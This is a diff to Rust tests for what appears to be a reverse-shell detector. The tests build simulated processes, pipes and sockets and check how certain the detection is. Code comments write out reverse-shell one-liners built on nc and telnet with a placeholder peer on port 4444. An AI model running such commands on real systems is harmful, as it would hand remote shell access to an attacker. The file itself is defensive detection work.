@@ -1,3 +1,4 @@
+use super::is_half as is_half_of;
 use super::*;
 
 const PEER: &str = "203.0.113.66:4444";
@@ -300,7 +301,7 @@ fn half_of_a_reverse_shell_whose_other_half_is_on_its_way() {
         World::new().with(SHELL, &shell).with(RELAY, &relay).with(last, held)
     };
     let is_half = |world: &World, is_starting: bool| {
-        super::is_half(&world.0, world.0.holders[0].key, |_| is_starting)
+        is_half_of(&world.0, world.0.holders[0].key, |_| is_starting)
     };
     // nc A 4444 | sh | nc A 5555, which is not connected yet
     assert!(is_half(&with(RELAY, &[(0, pipe(2), "r")]), false));
@@ -311,4 +312,19 @@ fn half_of_a_reverse_shell_whose_other_half_is_on_its_way() {
     let longer =
         with(OTHER, &[(0, pipe(2), "r"), (1, pipe(3), "w")]).with(RELAY, &[(0, pipe(3), "r")]);
     assert!(is_half(&longer, false));
+}
+
+#[test]
+fn a_relay_that_looks_a_name_up_has_no_peer_yet() {
+    // sh -i <f 2>&1 | telnet A 4444 >f, while telnet asks for the name of A
+    let fifo = Object::Pipe(30, 5);
+    let mut world = World::new()
+        .with(SHELL, &[(0, fifo, "r"), (1, pipe(1), "w")])
+        .with(RELAY, &[(0, pipe(1), "r"), (1, fifo, "w"), (3, CONNECTION, "rw")]);
+    world.0.look_ups.insert(1);
+    assert_eq!(world.certainty(), None);
+    // A shell on such a socket is one all the same.
+    let mut direct = World::new().with(SHELL, &[(0, CONNECTION, "rw"), (1, CONNECTION, "rw")]);
+    direct.0.look_ups.insert(1);
+    assert_eq!(direct.certainty(), SURE);
 }
